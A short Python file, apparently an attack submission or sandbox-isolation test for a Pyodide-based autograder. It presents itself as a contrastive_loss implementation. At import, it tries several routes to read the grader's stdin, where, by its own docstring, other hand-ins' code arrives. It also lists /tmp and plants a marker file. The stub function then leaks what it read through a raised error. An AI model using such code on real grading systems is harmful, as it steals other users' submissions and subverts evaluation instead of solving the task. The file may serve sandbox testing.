"""Reads the grading process's own stdin, where the next hand-ins' code arrives, and the files other runs left behind."""
import os
import sys

stolen = []


def with_default_stdin():
    """Pyodide's own default stdin reads Node's."""
    import pyodide_js

    pyodide_js.setStdin()
    return os.read(0, 1 << 20)


for read in (lambda: os.read(0, 1 << 20), lambda: sys.__stdin__.read(), lambda: open("/dev/stdin").read(), with_default_stdin, lambda: os.listdir("/tmp")):
    try:
        stolen.append(repr(read()))
    except Exception as error:
        stolen.append(repr(error))
with open("/tmp/left-by-$marker", "w") as left:
    left.write("$marker")


def contrastive_loss(x1, x2, label, margin=1.0):
    raise RuntimeError("\n".join(stolen))
